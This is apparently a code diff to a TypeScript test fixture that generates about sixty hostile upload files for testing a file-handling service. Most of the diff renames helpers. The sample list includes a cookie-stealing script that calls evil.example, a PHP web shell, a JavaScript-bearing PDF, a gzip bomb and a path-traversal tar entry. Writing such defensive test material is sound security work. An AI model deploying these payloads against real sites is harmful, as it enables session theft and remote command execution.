@@ -28,7 +28,7 @@ export const PLACE = "151 12 36";
 const SCRIPT = `<script>fetch("https://evil.example/?"+document.cookie)//${HIDDEN_TEXT}</script>`;
 const MEGABYTE = 1024 * 1024;
 
-/** A ZIP with one uncompressed file. */
+/** A ZIP with one compressed file. */
 function zip(name: string, content: Uint8Array): Uint8Array<ArrayBuffer> {
   const littleEndian = (value: number, bytes: number) =>
     Uint8Array.from({ length: bytes }, (_, at) => (value >>> (8 * at)) & 255);
@@ -44,8 +44,8 @@ function zip(name: string, content: Uint8Array): Uint8Array<ArrayBuffer> {
     littleEndian(name.length, 2),
     littleEndian(0, 2),
   );
-  const local = joinBytes(ascii("PK\x03\x04"), header, ascii(name), packed);
-  const central = joinBytes(
+  const localEntry = joinBytes(ascii("PK\x03\x04"), header, ascii(name), packed);
+  const centralDirectory = joinBytes(
     ascii("PK\x01\x02"),
     littleEndian(20, 2),
     header,
@@ -54,14 +54,14 @@ function zip(name: string, content: Uint8Array): Uint8Array<ArrayBuffer> {
     ascii(name),
   );
   return joinBytes(
-    local,
-    central,
+    localEntry,
+    centralDirectory,
     ascii("PK\x05\x06"),
     littleEndian(0, 4),
     littleEndian(1, 2),
     littleEndian(1, 2),
-    littleEndian(central.length, 4),
-    littleEndian(local.length, 4),
+    littleEndian(centralDirectory.length, 4),
+    littleEndian(localEntry.length, 4),
     littleEndian(0, 2),
   );
 }
@@ -72,8 +72,8 @@ const pdf = `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert("${HIDDE
 
 /** Files that an attacker could send to harm us or the viewers: sixty kinds, the same for the same seed. */
 export function hostileFiles(chance: Chance): readonly HostileFile[] {
-  const noise = (length: number) => Uint8Array.from({ length }, () => chance.whole(0, 255));
-  const cut = (bytes: Uint8Array<ArrayBuffer>) => bytes.slice(0, chance.whole(4, bytes.length - 3));
+  const randomBytes = (length: number) => Uint8Array.from({ length }, () => chance.whole(0, 255));
+  const truncate = (bytes: Uint8Array<ArrayBuffer>) => bytes.slice(0, chance.whole(4, bytes.length - 3));
   const flipBits = (bytes: Uint8Array<ArrayBuffer>) =>
     bytes.map((byte, at) => (at > 12 && chance.isBelow(0.1) ? byte ^ (1 << chance.whole(0, 7)) : byte));
   const exif = exifSegment(gpsTiff(6));
@@ -87,8 +87,8 @@ export function hostileFiles(chance: Chance): readonly HostileFile[] {
     ["HTML behind a GIF's first bytes", ascii(`GIF89a/*${html}`)],
     ["PDF with a script", ascii(pdf)],
     ["PHP", ascii("<?php system($_GET['c']); ?>")],
-    ["a Windows program", joinBytes(ascii("MZ"), noise(400))],
-    ["an ELF program", joinBytes(new Uint8Array([0x7f]), ascii("ELF"), noise(400))],
+    ["a Windows program", joinBytes(ascii("MZ"), randomBytes(400))],
+    ["an ELF program", joinBytes(new Uint8Array([0x7f]), ascii("ELF"), randomBytes(400))],
     ["JPEG with a script in a comment", jpeg({ before: [segment(0xfe, ascii(SCRIPT))] })],
     ["JPEG with a page after its end", jpeg({ after: ascii(html) })],
     ["JPEG with a ZIP after its end", jpeg({ after: zip("index.html", ascii(html)) })],
@@ -111,9 +111,9 @@ export function hostileFiles(chance: Chance): readonly HostileFile[] {
     ["WebP named JPEG", webp()],
     ["HEIC", heic],
     ["GIF", ascii("GIF89a\x01\0\x01\0\0\0\0;")],
-    ["BMP", joinBytes(ascii("BM"), noise(60))],
-    ["TIFF with a place", joinBytes(gpsTiff(1), noise(40))],
-    ["an icon", joinBytes(new Uint8Array([0, 0, 1, 0]), noise(60))],
+    ["BMP", joinBytes(ascii("BM"), randomBytes(60))],
+    ["TIFF with a place", joinBytes(gpsTiff(1), randomBytes(40))],
+    ["an icon", joinBytes(new Uint8Array([0, 0, 1, 0]), randomBytes(60))],
     ["JPEG with GPS", jpeg({ before: [exif] })],
     ["JPEG with GPS twice", jpeg({ before: [exif, exif] })],
     ["JPEG with GPS in a second picture", jpeg({ after: jpeg({ before: [exif] }) })],
@@ -133,13 +133,13 @@ export function hostileFiles(chance: Chance): readonly HostileFile[] {
     ["PNG of no pixels", png({ width: 0, height: 0 }), "png"],
     ["nothing", new Uint8Array()],
     ["one byte", new Uint8Array([0xff])],
-    ["JPEG cut off", cut(jpeg({ before: [exif] }))],
-    ["PNG cut off", cut(png())],
-    ["WebP cut off", cut(webp()), "webp"],
+    ["JPEG cut off", truncate(jpeg({ before: [exif] }))],
+    ["PNG cut off", truncate(png())],
+    ["WebP cut off", truncate(webp()), "webp"],
     ["JPEG with bits turned", flipBits(jpeg({ before: [exif] }))],
     ["PNG with bits turned", flipBits(png()), "png"],
     ["WebP with bits turned", flipBits(webp()), "webp"],
-    ["noise", noise(5_000)],
+    ["noise", randomBytes(5_000)],
     ["16 MB", jpeg({ after: new Uint8Array(16 * MEGABYTE) })],
     [
       "JPEG with a thousand comments",
@@ -152,10 +152,10 @@ export function hostileFiles(chance: Chance): readonly HostileFile[] {
     ],
     ["ZIP", zip("index.html", ascii(html))],
     ["gzip bomb", Uint8Array.from(gzipSync(new Uint8Array(8 * MEGABYTE)))],
-    ["tar", joinBytes(ascii("../../index.html"), new Uint8Array(84), noise(412))],
+    ["tar", joinBytes(ascii("../../index.html"), new Uint8Array(84), randomBytes(412))],
     [
       "PNG whose chunk says it is four gigabytes",
-      joinBytes(png().slice(0, 8), new Uint8Array([0xff, 0xff, 0xff, 0xff]), ascii("IHDR"), noise(30)),
+      joinBytes(png().slice(0, 8), new Uint8Array([0xff, 0xff, 0xff, 0xff]), ascii("IHDR"), randomBytes(30)),
       "png",
     ],
   ];
